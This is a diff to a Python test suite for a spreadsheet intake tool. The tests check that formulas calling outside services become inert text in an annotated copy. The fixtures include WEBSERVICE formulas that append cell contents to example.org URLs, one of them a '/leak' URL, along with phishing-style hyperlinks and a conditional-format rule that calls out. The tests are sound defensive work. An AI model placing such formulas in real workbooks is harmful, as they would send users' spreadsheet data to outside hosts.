@@ -641,6 +641,11 @@ def external_link_workbook(path: Path) -> Path:
     fac["J5"] = '=WEBSERVICE("http://example.org/?"&A1)'
     fac["K2"].hyperlink = "http://example.org/phish"
     fac["J6"] = '=MAP({"http://example.org/leak"},WEBSERVICE)'  # a function passed by its name alone
+    fac["J7"] = '=_xlfn.TRANSLATE(A2&" "&D2,"en","fr")'  # Excel 365 functions that send cells to a service
+    fac["J8"] = '=_xlfn.COPILOT("summarise",A2:G2)'
+    fac["J9"] = '=_xlfn.STOCKHISTORY("MSFT",1)'
+    fac["J10"] = "=\u00f1(A2)"  # a name (a LAMBDA, say) called as a function, in any script
+    fac["J11"] = "=_xlfn.XLOOKUP(A2,A2:A4,D2:D4)+SUM(D2:D4)"
     fac["K3"].hyperlink = Hyperlink(ref="K3", target="http://example.org/phish2", location="A1")
     fac.conditional_formatting.add("K4", FormulaRule(formula=['ISNUMBER(WEBSERVICE("http://example.org/cf"))']))
     fac.conditional_formatting.add("D2:D4", FormulaRule(formula=["D2>1000000"], fill=PatternFill("solid", "FFFF00")))
@@ -687,11 +692,28 @@ def test_annotated_copy_strips_external_links_dde_and_calls_out(tmp_path):
     assert b"other.xlsx" not in everything and b'Target="http://example.org/phish"' not in everything
     assert b'Target="http://example.org/phish2"' not in everything  # a link with a target and a location goes too
     fac = load_workbook(out)["Facilities"]
-    for ref in ("J2", "J3", "J5", "J6"):
+    for ref in ("J2", "J3", "J5", "J6", "J7", "J8", "J9", "J10"):
         assert fac[ref].data_type == "s" and fac[ref].quotePrefix, ref  # inert text, shown as typed
-    assert fac["J4"].data_type == "f" and fac["J4"].value == "=D2*2"  # the focal point's own formula stays
+    assert fac["J4"].data_type == "f" and fac["J4"].value == "=D2*2"  # the focal point's own formulas stay
+    assert fac["J11"].data_type == "f"
     rules = [rule.formula for cf in fac.conditional_formatting for rule in cf.rules]
     assert rules == [["D2>1000000"]]  # the rule calling out went, the focal point's own stays
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    name=st.text(alphabet=st.characters(categories=["L"]), min_size=1, max_size=12),
+    prefix=st.sampled_from(["", "_xlfn.", "_xlfn._xlws.", "_xludf."]),
+    around=st.sampled_from(["={}(A1)", "=1+{}(A1:B2)", '=IF(A1,{}("x"),0)', "=SUM({}(A1),2)"]),
+)
+def test_a_formula_calling_any_function_but_the_safe_ones_is_inert(name, prefix, around):
+    """Whatever a function is called (Excel adds new ones that call out every year), a formula
+    calling it is inert in the copy unless the function is one of the few known to stay inside."""
+    from pipeline.intake.annotate import SAFE_FUNCTIONS, reaches_outside
+
+    called = prefix + name
+    safe = prefix != "_xludf." and name.upper() in SAFE_FUNCTIONS
+    assert reaches_outside(around.format(called)) is not safe
 
 
 # --- 9. a damaged database and a read-only folder get one plain line --------------------------
